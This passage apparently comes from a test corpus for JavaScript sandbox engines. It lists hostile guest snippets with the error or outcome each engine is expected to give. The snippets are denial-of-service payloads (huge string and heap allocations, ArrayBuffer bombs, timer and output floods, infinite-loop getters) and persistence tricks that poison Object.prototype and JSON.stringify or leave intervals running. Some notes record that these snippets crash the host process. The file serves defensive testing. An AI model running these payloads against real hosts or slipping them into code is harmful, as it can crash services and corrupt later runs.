(async () => { throw { get message() { throw new Error("getter"); } }; })();
await Promise.resolve();
return "returned";`,
    expect: {
      vm: ["SANDBOX_GUEST_ERROR"],
      worker: ["SANDBOX_GUEST_ERROR"],
      spawn: ["SANDBOX_GUEST_ERROR"],
      plugin: "ok",
    },
    declared: {
      isolate: {
        outcome: ["SANDBOX_GUEST_ERROR", "ok"],
        note: "isolated-vm 5 has no unhandled-rejection hook: it hands a rejection nobody handled to the call running when V8 sees it, and on a loaded machine (about 1 run in 5 of the whole corpus) that was none, so the run ended ok; the host survives and the next run is unaffected (the next-run check follows this technique on isolate)",
      },
      quickjs: {
        outcome: "ok",
        note: "quickjs-emscripten exposes no rejection tracker, so a rejection nobody handled is never reported and the run ends ok (a declared difference, sandbox-quickjs README); the host survives and the next run is unaffected (the next-run check follows this technique on quickjs)",
      },
    },
  },
  {
    name: "huge-string-length",
    source:
      "vm2 docs/ATTACKS.md category 23 (unbounded allocation — host heap DoS); V8's maximum string length",
    kind: "dos",
    code: `let s = "x"; for (let i = 0; i < 40; i++) s += s; return s.length;`,
    expect: {
      vm: ["SANDBOX_GUEST_ERROR"],
      worker: ["SANDBOX_GUEST_ERROR"],
      spawn: ["SANDBOX_GUEST_ERROR"],
      isolate: ["SANDBOX_GUEST_ERROR"],
      // QuickJS's own limit and wording: "InternalError: string too long".
      quickjs: ["SANDBOX_GUEST_ERROR"],
      plugin: ["SAND_VM_PLUGIN_THREW"],
    },
  },
  {
    name: "single-huge-allocation",
    source:
      "nodejs/node issue #47224 and PR #65019 (one large allocation in a worker with resourceLimits aborts the whole process); issue 14 ('large strings')",
    kind: "dos",
    isolatedHost: true,
    // The memory limit must end it, not the clock (a loaded machine fills 64 MiB slowly).
    timeoutMs: 20_000,
    code: `const s = "x".repeat(2 ** 27).toUpperCase(); return s.length;`,
    expect: {
      spawn: ["SANDBOX_MEMORY_EXCEEDED"],
      isolate: ["SANDBOX_MEMORY_EXCEEDED"],
      quickjs: ["SANDBOX_MEMORY_EXCEEDED"],
    },
    declared: {
      vm: {
        outcome: ["ok", "host-died"],
        note: "vm enforces no memoryLimit: the 128 MiB string lands in the host heap (the host survives or not by its own heap size)",
      },
      worker: {
        outcome: ["host-died"],
        note: "HOST CRASH: V8 aborts the whole process (FATAL ERROR: Reached heap limit) instead of ending the worker — nodejs/node#47224",
      },
      plugin: {
        outcome: ["host-died"],
        note: "HOST CRASH: the plugin host's worker aborts the whole process (FATAL ERROR: Reached heap limit) — nodejs/node#47224",
      },
    },
  },
  {
    name: "heap-allocation-bomb",
    source: "vm2 docs/ATTACKS.md category 23 'Unbounded Buffer.alloc(N) — Host Heap DoS'",
    kind: "dos",
    isolatedHost: true,
    // The memory limit must end it, not the clock (a loaded machine fills 64 MiB slowly).
    timeoutMs: 20_000,
    code: `const keep = []; for (;;) keep.push(new Array(1e5).fill({ k: keep.length }));`,
    expect: {
      worker: ["SANDBOX_MEMORY_EXCEEDED"],
      spawn: ["SANDBOX_MEMORY_EXCEEDED"],
      isolate: ["SANDBOX_MEMORY_EXCEEDED"],
      quickjs: ["SANDBOX_MEMORY_EXCEEDED"],
      plugin: ["SAND_VM_MEMORY_EXCEEDED"],
    },
    declared: {
      vm: {
        outcome: ["host-died", "SANDBOX_TIMEOUT"],
        note: "vm shares the host heap and enforces no memoryLimit (capabilities.enforcesMemoryLimit false): the bomb fills the host's own heap",
      },
    },
  },
  {
    name: "array-buffer-outside-heap",
    source:
      "issue 14 ('memoryLimit counts the V8 heap only': typed arrays reached 500 MiB under 128 MiB); vm2 docs/ATTACKS.md category 23",
    kind: "dos",
    isolatedHost: true,
    // The memory limit must end it, not the clock (a loaded machine fills 64 MiB slowly).
    timeoutMs: 20_000,
    code: `const keep = []; for (let i = 0; i < 16; i++) { const b = new Uint8Array(16 * 1024 * 1024); for (let j = 0; j < b.length; j += 4096) b[j] = 1; keep.push(b); } return keep.length;`,
    expect: {
      spawn: ["SANDBOX_MEMORY_EXCEEDED"],
      isolate: ["SANDBOX_MEMORY_EXCEEDED"],
      // Array buffers live in the module's linear memory, whose growth the limit caps.
      quickjs: ["SANDBOX_MEMORY_EXCEEDED"],
      plugin: ["SAND_VM_MEMORY_EXCEEDED"],
      // Sampled from the host while it runs where node can (22.16+); on every line the host's
      // resident-memory valve ends a worker that does not yield past limit + 48 MiB, and the
      // worker's last sample as the run ends stands behind both (SECURITY.md, "Measured overshoot").
      worker: ["SANDBOX_MEMORY_EXCEEDED"],
    },
    declared: {
      vm: {
        outcome: "ok",
        note: "NOT BOUNDED: 256 MiB of ArrayBuffers under a 64 MiB memoryLimit (vm enforces no limit)",
      },
    },
  },
  {
    name: "timers-flood",
    source: "vm2 test/vm.js 'timers'; Node.js docs (timers keep the event loop alive after the run)",
    kind: "dos",
    timeoutMs: 300,
    code: `if (typeof setTimeout !== "function") return "no timers";
let made = 0;
try { for (let i = 0; i < 5000; i++) { setTimeout(() => {}, 60000); setInterval(() => {}, 1); made++; } } catch (e) { return "refused after " + made + ": " + e.name; }
return made;`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: "ok",
    },
  },
  {
    name: "output-flood",
    source: "vm2 README (console output redirected to the host); issue 14 'flood output'",
    kind: "dos",
    timeoutMs: 3000,
    code: `const line = "y".repeat(1024); for (let i = 0; i < 20000; i++) console.log(line); return "flooded";`,
    expect: { vm: "ok", worker: "ok", spawn: "ok", isolate: "ok", quickjs: "ok", plugin: "ok" },
  },
  {
    name: "giant-result",
    source: "IsolateEngine/WorkerEngine giant-result regressions (one string referenced many times)",
    kind: "dos",
    isolatedHost: true,
    code: `const s = "x".repeat(2 ** 22); return Array(64).fill(s);`,
    expect: {
      vm: ["SANDBOX_RESULT_NOT_TRANSFERABLE", "SANDBOX_MEMORY_EXCEEDED"],
      worker: ["SANDBOX_RESULT_NOT_TRANSFERABLE", "SANDBOX_MEMORY_EXCEEDED"],
      spawn: ["SANDBOX_RESULT_NOT_TRANSFERABLE", "SANDBOX_MEMORY_EXCEEDED"],
      isolate: ["SANDBOX_RESULT_NOT_TRANSFERABLE", "SANDBOX_MEMORY_EXCEEDED"],
      // Refused with 32 MiB of the module's memory in use (the memory limit is not near), but
      // without a JIT encoding the result until it is refused took 1.3–2.2 s of the 3 s budget
      // (measured on a loaded 2-core machine): a slower machine may reach the timeout first.
      quickjs: ["SANDBOX_RESULT_NOT_TRANSFERABLE", "SANDBOX_TIMEOUT"],
      // Refused before its copy is built (half of memoryLimitMb); building it aborted the whole
      // process on Node 24 (V8's fatal out-of-memory on one huge string, nodejs/node#47224).
      plugin: ["SAND_VM_DATA_CLONE_FAILED"],
    },
  },
  {
    name: "error-getter-loop",
    source:
      "sandbox-vm test/escapes.test.ts (node's error decoration running a guest getter outside the timeout)",
    kind: "dos",
    timeoutMs: 300,
    code: `const e = new Error("x"); Object.defineProperty(e, "message", { get() { for (;;) {} } }); Object.defineProperty(e, "name", { get() { for (;;) {} } }); throw e;`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: PLUGIN_TIMEOUT,
    },
  },
  {
    name: "console-number-format-of-hostile-object",
    source:
      SANDDRILLER +
      " (host code converting guest-shaped values); found by this corpus (to-json-and-to-primitive-receivers) in the plugin host",
    kind: "dos",
    code: `console.log("%d %i %f", { toString() { return "x"; }, valueOf() { return "y"; } }, { toString() {}, valueOf() {} }, {}); return "logged";`,
    // The plugin host formats the copied arguments with node's formatter, which threw on them
    // (SAND_VM_WORKER_FAILED) until it fell back to inspecting each object first.
    expect: { vm: "ok", worker: "ok", spawn: "ok", isolate: "ok", quickjs: "ok", plugin: "ok" },
  },
  {
    name: "tool-call-flood",
    source: "issue 14 ('tool-call flood'); sandbox-tools limits (maxToolCalls)",
    kind: "dos",
    needsTools: true,
    timeoutMs: 3000,
    code: `const calls = []; for (let i = 0; i < 1000; i++) calls.push(tools.echo({ value: i }).catch((e) => e.name)); const r = await Promise.all(calls); return r.filter((x) => typeof x === "string").length;`,
    expect: { vm: "ok", worker: "ok", spawn: "ok", isolate: "ok", quickjs: "ok", plugin: "ok" },
  },
  // ── Persistence: outlive the run, confuse the next one ───────────────────────────────
  {
    name: "interval-outlives-run",
    source: "vm2 test/vm.js 'timers'; issue 14 ('persist after the run (timers …)')",
    kind: "persist",
    timeoutMs: 300,
    code: `if (typeof setInterval === "function") setInterval(() => console.log("still here"), 1);
globalThis.planted = "planted";
return "left an interval";`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: ["SAND_VM_PLUGIN_THREW"],
    },
  },
  {
    name: "intrinsic-poisoning-next-run",
    source:
      "IsolateEngine test 'state planted on shared intrinsics does not reach the next execution'; vm2 docs/ATTACKS.md category 20",
    kind: "persist",
    code: `Object.prototype.planted = "planted"; Array.prototype.map = () => "hijacked"; JSON.stringify = () => "forged"; Function.prototype.call = () => "hijacked";
return "poisoned";`,
    expect: {
      vm: "ok",
      worker: "ok",
      spawn: "ok",
      isolate: "ok",
      quickjs: "ok",
      plugin: ["SAND_VM_PLUGIN_THREW"],
    },
  },
  {
    name: "pending-tool-call-after-run",
    source: "issue 14 ('persist after the run (… pending tool calls)')",
    kind: "persist",
    needsTools: true,
    timeoutMs: 300,
    code: `tools.slow({}).then(() => console.log("late")); return "returned with a call pending";`,
    expect: {
      vm: TIMEOUT,
      worker: TIMEOUT,
      spawn: TIMEOUT,
      isolate: TIMEOUT,
      quickjs: TIMEOUT,
      plugin: "ok",
    },
  },
];
